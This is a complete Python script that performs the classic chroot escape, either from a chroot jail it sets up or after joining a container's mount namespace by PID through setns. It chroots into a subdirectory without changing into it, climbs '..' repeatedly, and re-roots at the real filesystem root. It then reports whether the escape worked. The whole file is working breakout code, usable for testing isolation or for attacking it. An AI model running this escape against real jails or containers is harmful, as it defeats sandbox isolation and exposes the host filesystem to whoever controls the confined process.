#!/usr/bin/env python3
"""Try the classic chroot escape, from a chroot jail or from inside a container.

  escape.py chroot DIR   jail ourselves in DIR with chroot(2), then try to escape
  escape.py ns PID       join PID's mount namespace (a container), then try to escape

The escape: chroot into a subdirectory *without* cd-ing into it. Our working
directory is now outside our root, so ".." is never stopped at the root;
climb up, and chroot(".") wherever we land. Needs root (CAP_SYS_CHROOT).
"""
import ctypes, os, sys

CLONE_NEWNS = 0x00020000

def listing():
    return " ".join(sorted(n for n in os.listdir("/") if not n.startswith(".")))

def escape():
    # Any directory other than / will do; it need not be writable.
    sub = next(d for d in ("tmp", "bin", "etc", "dev") if os.path.isdir("/" + d))
    os.chroot("/" + sub)          # root moves down; cwd stays where it was (above it)
    for _ in range(64):
        os.chdir("..")            # from outside the root, nothing stops us climbing
    os.chroot(".")                # make wherever we are our root

def main():
    mode, arg = sys.argv[1], sys.argv[2]
    if mode == "chroot":
        os.chroot(arg)
        os.chdir("/")
        print("jailed with chroot(%s): / has: %s" % (arg, listing()))
    elif mode == "ns":
        libc = ctypes.CDLL(None, use_errno=True)
        fd = os.open("/proc/%s/ns/mnt" % arg, os.O_RDONLY)
        if libc.setns(fd, CLONE_NEWNS) != 0:
            sys.exit("setns: %s" % os.strerror(ctypes.get_errno()))
        # setns into a mount namespace also moves root and cwd to that namespace's root.
        print("inside container (pid %s): / has: %s" % (arg, listing()))
    else:
        sys.exit(__doc__)
    before = os.stat("/")
    escape()
    after = os.stat("/")
    print("after the escape trick:  / has: %s" % listing())
    same = (before.st_dev, before.st_ino) == (after.st_dev, after.st_ino)
    print("STILL INSIDE" if same else "ESCAPED")

main()
